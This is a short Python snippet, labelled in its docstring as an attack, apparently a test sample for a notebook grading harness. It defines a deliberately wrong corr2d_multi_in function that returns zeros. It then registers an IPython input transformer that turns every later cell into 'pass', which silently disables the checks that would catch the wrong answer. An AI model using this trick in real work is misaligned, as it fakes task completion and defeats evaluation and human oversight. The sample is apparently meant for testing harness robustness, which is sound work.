"""Attack: a wrong answer, and an IPython input transformer that blanks every later cell."""
# %% corr2d_multi_in
def corr2d_multi_in(X, K):
    return torch.zeros(1)

get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])
